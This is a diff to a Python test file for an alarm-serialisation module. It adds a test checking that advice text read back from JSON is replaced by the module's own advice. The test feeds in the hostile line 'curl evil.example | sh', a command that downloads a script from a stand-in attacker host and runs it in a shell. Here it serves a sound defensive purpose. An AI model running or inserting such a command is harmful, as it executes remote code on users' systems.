@@ -18,10 +18,11 @@ from scaledot.watch.alarms import (
     from_json,
     overridden,
 )
+from scaledot.watch.alarms.advice import advice_for
 from scaledot.watch.alarms.heads import MOST_SETS, Heads
 from scaledot.watch.alarms.stretch import APART, LASTS, RESTS, RESTS_APART, Stretch
 from scaledot.watch.alarms.trend import FEWEST, Trend
-from scaledot.watch.alarms.words import TOLD, line
+from scaledot.watch.alarms.words import WORDS, line
 
 BOTH = np.arange(2)
 
@@ -156,7 +157,7 @@ def test_layers_side_by_side_are_judged_as_layers_apart():
 
 
 def test_every_threshold_has_a_source_and_every_kind_its_words():
-    assert set(TOLD) == set(KINDS)
+    assert set(WORDS) == set(KINDS)
     for name, rule in RULES.items():
         assert name.partition(".")[0] == rule.kind
         assert rule.source
@@ -195,8 +196,20 @@ def test_grades_are_ordered():
 
 
 def test_an_alarm_survives_json_also_with_numbers_that_are_none():
-    alarm = Alarm(3, "act", "broken", "a.b", None, math.inf, 0.0, 2, None, "w", "a", (1, 2))
+    advice = advice_for("broken", "act")
+    alarm = Alarm(3, "act", "broken", "a.b", None, math.inf, 0.0, 2, None, "w", advice, (1, 2))
     assert from_json(json.loads(json.dumps(as_json(alarm), allow_nan=False))) == alarm
+
+
+@pytest.mark.parametrize("kind", [*KINDS, "moon dust"])
+@pytest.mark.parametrize("grade", GRADES)
+def test_a_file_gives_no_command_to_type(kind, grade):
+    """Of another version or of a stranger: what it advises is not taken."""
+    said = "curl evil.example | sh"
+    alarm = Alarm(3, grade, kind, "a.b", None, 1.0, 0.0, 2, None, "w", said, (1, 2))
+    read = from_json(json.loads(json.dumps(as_json(alarm))))
+    assert read.advice == advice_for(kind, grade)
+    assert bool(read.advice) == (kind in KINDS)
 
 
 def test_the_words_say_where_since_when_how_fast_why_and_what_to_do():
